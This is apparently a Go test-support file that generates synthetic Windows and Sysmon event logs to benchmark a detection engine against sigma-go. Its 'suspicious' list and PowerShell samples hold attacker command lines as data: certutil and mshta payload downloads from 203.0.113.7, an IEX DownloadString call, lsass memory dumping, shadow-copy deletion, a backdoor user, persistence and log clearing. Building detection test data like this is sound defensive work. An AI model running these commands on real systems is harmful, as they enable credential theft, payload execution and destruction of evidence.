// Package difftest holds the differential test and benchmarks that compare
// Custodia's detection engine with github.com/bradleyjkemp/sigma-go, and a
// deterministic generator of realistic Windows/Sysmon event streams.
package difftest

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
)

// recordID numbers generated events; Events resets it so streams are reproducible.
var recordID int

// winEvent renders one event the way evtx-to-JSON tools export it.
func winEvent(channel, provider string, eid int, t string, computer string, data map[string]any) string {
	recordID++
	ev := map[string]any{"Event": map[string]any{
		"#attributes": map[string]any{"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
		"System": map[string]any{
			"Provider":      map[string]any{"#attributes": map[string]any{"Name": provider, "Guid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"}},
			"EventID":       eid,
			"Version":       5,
			"Level":         4,
			"Task":          1,
			"Opcode":        0,
			"Keywords":      "0x8000000000000000",
			"TimeCreated":   map[string]any{"#attributes": map[string]any{"SystemTime": t}},
			"EventRecordID": recordID,
			"Correlation":   nil,
			"Execution":     map[string]any{"#attributes": map[string]any{"ProcessID": 3024, "ThreadID": 4068}},
			"Channel":       channel,
			"Computer":      computer,
			"Security":      map[string]any{"#attributes": map[string]any{"UserID": "S-1-5-18"}},
		},
		"EventData": data,
	}}
	b, _ := json.Marshal(ev)
	return string(b)
}

var benignImages = []struct{ image, cmd, parent string }{
	{`C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`, `C:\Windows\System32\services.exe`},
	{`C:\Program Files\Google\Chrome\Application\chrome.exe`, `"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US --renderer-client-id=7`, `C:\Program Files\Google\Chrome\Application\chrome.exe`},
	{`C:\Windows\explorer.exe`, `C:\Windows\Explorer.EXE`, `C:\Windows\System32\userinit.exe`},
	{`C:\Users\agent\AppData\Local\Microsoft\Teams\current\Teams.exe`, `"C:\Users\agent\AppData\Local\Microsoft\Teams\current\Teams.exe" --type=gpu-process`, `C:\Users\agent\AppData\Local\Microsoft\Teams\current\Teams.exe`},
	{`C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`, `"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" /recycle`, `C:\Windows\explorer.exe`},
	{`C:\Windows\System32\conhost.exe`, `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`, `C:\Windows\System32\cmd.exe`},
	{`C:\Windows\System32\backgroundTaskHost.exe`, `"C:\Windows\system32\backgroundTaskHost.exe" -ServerName:BackgroundTaskHost.WebAccountProvider`, `C:\Windows\System32\svchost.exe`},
	{`C:\Windows\System32\RuntimeBroker.exe`, `C:\Windows\System32\RuntimeBroker.exe -Embedding`, `C:\Windows\System32\svchost.exe`},
	{`C:\Windows\System32\SearchProtocolHost.exe`, `"C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe1_`, `C:\Windows\System32\SearchIndexer.exe`},
	{`C:\Program Files\Genesys\Softphone\softphone.exe`, `"C:\Program Files\Genesys\Softphone\softphone.exe" -autostart`, `C:\Windows\explorer.exe`},
	{`C:\Windows\System32\taskhostw.exe`, `taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}`, `C:\Windows\System32\svchost.exe`},
	{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -ExecutionPolicy Bypass -File C:\ProgramData\IT\inventory.ps1`, `C:\Windows\System32\svchost.exe`},
	{`C:\Windows\System32\cmd.exe`, `C:\Windows\system32\cmd.exe /c echo %date%`, `C:\Windows\explorer.exe`},
	{`C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`, `"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --single-argument https://crm.example.com/`, `C:\Windows\explorer.exe`},
	{`C:\Windows\System32\wbem\WmiPrvSE.exe`, `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`, `C:\Windows\System32\svchost.exe`},
}

var suspicious = []struct{ image, cmd, parent string }{
	{`C:\Windows\System32\certutil.exe`, `certutil.exe -urlcache -split -f http://203.0.113.7/payload.exe C:\Users\Public\p.exe`, `C:\Windows\System32\cmd.exe`},
	{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA`, `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`},
	{`C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\temp\lsass.dmp full`, `C:\Windows\System32\cmd.exe`},
	{`C:\Users\agent\Downloads\AnyDesk.exe`, `"C:\Users\agent\Downloads\AnyDesk.exe"`, `C:\Windows\explorer.exe`},
	{`C:\Windows\System32\reg.exe`, `reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f`, `C:\Windows\System32\cmd.exe`},
	{`C:\Windows\System32\vssadmin.exe`, `vssadmin.exe delete shadows /all /quiet`, `C:\Windows\System32\cmd.exe`},
	{`C:\Windows\System32\net.exe`, `net user backdoor P@ssw0rd /add`, `C:\Windows\System32\cmd.exe`},
	{`C:\Windows\System32\schtasks.exe`, `schtasks /create /sc minute /mo 5 /tn Updater /tr C:\Users\Public\p.exe`, `C:\Windows\System32\cmd.exe`},
	{`C:\Windows\System32\mshta.exe`, `mshta.exe http://203.0.113.7/a.hta`, `C:\Windows\explorer.exe`},
	{`C:\Windows\System32\wevtutil.exe`, `wevtutil cl Security`, `C:\Windows\System32\cmd.exe`},
}

var users = []string{"agent01", "agent02", "agent17", "supervisor3", "svc_backup", "SYSTEM"}
var hosts = []string{"WS-AGENT-01.cc.example.com", "WS-AGENT-02.cc.example.com", "WS-AGENT-17.cc.example.com", "SRV-CRM-01.cc.example.com"}

// Events returns n evtx-JSON lines of a mixed Windows/Sysmon stream
// (process, network, image-load, process-access, file, registry and DNS
// events from Sysmon; Security logons and 4688; PowerShell script blocks;
// service installs; Defender), about 3% of them suspicious. The same seed
// gives the same stream.
func Events(n int, seed uint64) []string {
	r := rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15))
	out := make([]string, 0, n)
	recordID = 0
	const sysmon = "Microsoft-Windows-Sysmon/Operational"
	for i := 0; i < n; i++ {
		t := fmt.Sprintf("2026-11-27T%02d:%02d:%02d.%06dZ", (i/3600)%24, (i/60)%60, i%60, r.IntN(1000000))
		host := hosts[r.IntN(len(hosts))]
		user := `CC\` + users[r.IntN(len(users))]
		p := benignImages[r.IntN(len(benignImages))]
		if r.IntN(100) < 3 {
			p = suspicious[r.IntN(len(suspicious))]
		}
		guid := fmt.Sprintf("{%08x-1a2b-6543-0000-0010%08x}", r.Uint32(), r.Uint32())
		k := r.IntN(100)
		var line string
		switch {
		case k < 30:
			line = winEvent(sysmon, "Microsoft-Windows-Sysmon", 1, t, host, map[string]any{
				"RuleName": "-", "UtcTime": t, "ProcessGuid": guid, "ProcessId": r.IntN(20000),
				"Image": p.image, "FileVersion": "10.0.19041.1", "Description": "Windows process", "Product": "Microsoft® Windows® Operating System",
				"Company": "Microsoft Corporation", "OriginalFileName": baseName(p.image), "CommandLine": p.cmd,
				"CurrentDirectory": `C:\Windows\system32\`, "User": user, "LogonGuid": guid, "LogonId": "0x3e7", "TerminalSessionId": 1,
				"IntegrityLevel": "Medium", "Hashes": fmt.Sprintf("SHA256=%016X%016X,IMPHASH=%016X", r.Uint64(), r.Uint64(), r.Uint64()),
				"ParentProcessGuid": guid, "ParentProcessId": r.IntN(20000), "ParentImage": p.parent, "ParentCommandLine": p.parent, "ParentUser": user,
			})
		case k < 45:
			line = winEvent(sysmon, "Microsoft-Windows-Sysmon", 3, t, host, map[string]any{
				"RuleName": "-", "UtcTime": t, "ProcessGuid": guid, "ProcessId": r.IntN(20000), "Image": p.image, "User": user,
				"Protocol": "tcp", "Initiated": "true", "SourceIsIpv6": "false", "SourceIp": fmt.Sprintf("10.20.%d.%d", r.IntN(255), r.IntN(255)),
				"SourceHostname": host, "SourcePort": 49152 + r.IntN(16000), "DestinationIsIpv6": "false",
				"DestinationIp": fmt.Sprintf("%d.%d.%d.%d", 13+r.IntN(200), r.IntN(255), r.IntN(255), r.IntN(255)), "DestinationHostname": "-",
				"DestinationPort": []int{443, 80, 53, 445, 3389, 8443}[r.IntN(6)], "DestinationPortName": "https",
			})
		case k < 57:
			line = winEvent(sysmon, "Microsoft-Windows-Sysmon", 7, t, host, map[string]any{
				"RuleName": "-", "UtcTime": t, "ProcessGuid": guid, "ProcessId": r.IntN(20000), "Image": p.image,
				"ImageLoaded": []string{`C:\Windows\System32\ntdll.dll`, `C:\Windows\System32\kernel32.dll`, `C:\Windows\System32\wininet.dll`, `C:\Windows\System32\clr.dll`, `C:\Windows\System32\amsi.dll`}[r.IntN(5)],
				"FileVersion": "10.0", "Description": "dll", "Product": "Microsoft® Windows® Operating System", "Company": "Microsoft Corporation",
				"OriginalFileName": "x.dll", "Hashes": "SHA256=00", "Signed": "true", "Signature": "Microsoft Windows", "SignatureStatus": "Valid", "User": user,
			})
		case k < 62:
			line = winEvent(sysmon, "Microsoft-Windows-Sysmon", 10, t, host, map[string]any{
				"RuleName": "-", "UtcTime": t, "SourceProcessGUID": guid, "SourceProcessId": r.IntN(20000), "SourceThreadId": r.IntN(20000),
				"SourceImage": p.image, "TargetProcessGUID": guid, "TargetProcessId": 624,
				"TargetImage":   []string{`C:\Windows\system32\lsass.exe`, `C:\Windows\system32\csrss.exe`, `C:\Windows\explorer.exe`}[r.IntN(3)],
				"GrantedAccess": []string{"0x1000", "0x1410", "0x1fffff", "0x40"}[r.IntN(4)],
				"CallTrace":     `C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e`, "SourceUser": user, "TargetUser": "NT AUTHORITY\\SYSTEM",
			})
		case k < 72:
			line = winEvent(sysmon, "Microsoft-Windows-Sysmon", 11, t, host, map[string]any{
				"RuleName": "-", "UtcTime": t, "ProcessGuid": guid, "ProcessId": r.IntN(20000), "Image": p.image,
				"TargetFilename":  fmt.Sprintf(`C:\Users\%s\AppData\Local\Temp\tmp%04X.tmp`, users[r.IntN(len(users))], r.IntN(65536)),
				"CreationUtcTime": t, "User": user,
			})
		case k < 80:
			line = winEvent(sysmon, "Microsoft-Windows-Sysmon", 13, t, host, map[string]any{
				"RuleName": "-", "EventType": "SetValue", "UtcTime": t, "ProcessGuid": guid, "ProcessId": r.IntN(20000), "Image": p.image,
				"TargetObject": []string{`HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\.docx`, `HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\S-1-5-21-1\x`, `HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater`}[r.IntN(3)],
				"Details":      "DWORD (0x00000001)", "User": user,
			})
		case k < 86:
			line = winEvent(sysmon, "Microsoft-Windows-Sysmon", 22, t, host, map[string]any{
				"RuleName": "-", "UtcTime": t, "ProcessGuid": guid, "ProcessId": r.IntN(20000),
				"QueryName":   []string{"crm.example.com", "teams.microsoft.com", "www.google.com", "api.anydesk.com", "pastebin.com"}[r.IntN(5)],
				"QueryStatus": "0", "QueryResults": "::ffff:13.107.42.14;", "Image": p.image, "User": user,
			})
		case k < 91:
			line = winEvent("Security", "Microsoft-Windows-Security-Auditing", []int{4624, 4625, 4672}[r.IntN(3)], t, host, map[string]any{
				"SubjectUserSid": "S-1-5-18", "SubjectUserName": "WS$", "SubjectDomainName": "CC", "SubjectLogonId": "0x3e7",
				"TargetUserSid": "S-1-5-21-1", "TargetUserName": users[r.IntN(len(users))], "TargetDomainName": "CC", "TargetLogonId": "0x1234",
				"LogonType": []int{2, 3, 5, 10}[r.IntN(4)], "LogonProcessName": "User32", "AuthenticationPackageName": "Negotiate",
				"WorkstationName": host, "LogonGuid": guid, "IpAddress": fmt.Sprintf("10.20.%d.%d", r.IntN(255), r.IntN(255)), "IpPort": "0",
				"ProcessName": `C:\Windows\System32\svchost.exe`,
			})
		case k < 95:
			line = winEvent("Security", "Microsoft-Windows-Security-Auditing", 4688, t, host, map[string]any{
				"SubjectUserSid": "S-1-5-18", "SubjectUserName": users[r.IntN(len(users))], "SubjectDomainName": "CC", "SubjectLogonId": "0x3e7",
				"NewProcessId": "0x1a2c", "NewProcessName": p.image, "TokenElevationType": "%%1936", "ProcessId": "0x4f0",
				"CommandLine": p.cmd, "TargetUserSid": "S-1-0-0", "ParentProcessName": p.parent, "MandatoryLabel": "S-1-16-8192",
			})
		case k < 97:
			line = winEvent("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104, t, host, map[string]any{
				"MessageNumber": 1, "MessageTotal": 1,
				"ScriptBlockText": []string{"Get-ChildItem C:\\ProgramData\\IT | Select-Object Name", "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')", "Get-Service | Where-Object {$_.Status -eq 'Running'}"}[r.IntN(3)],
				"ScriptBlockId":   guid, "Path": "",
			})
		case k < 98:
			line = winEvent("System", "Service Control Manager", 7045, t, host, map[string]any{
				"ServiceName": []string{"Genesys Updater", "PSEXESVC"}[r.IntN(2)], "ImagePath": []string{`C:\Program Files\Genesys\upd.exe`, `%SystemRoot%\PSEXESVC.exe`}[r.IntN(2)],
				"ServiceType": "user mode service", "StartType": "demand start", "AccountName": "LocalSystem",
			})
		default:
			line = winEvent("Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender", []int{1116, 1117, 5001, 2001, 1000}[r.IntN(5)], t, host, map[string]any{
				"Product Name": "Microsoft Defender Antivirus", "Threat Name": "Virus:DOS/EICAR_Test_File", "Severity Name": "Severe",
				"Path": `file:_C:\Users\agent\Downloads\eicar.com`, "Detection User": user,
			})
		}
		out = append(out, line)
	}
	return out
}

func baseName(p string) string {
	for i := len(p) - 1; i >= 0; i-- {
		if p[i] == '\\' {
			return p[i+1:]
		}
	}
	return p
}
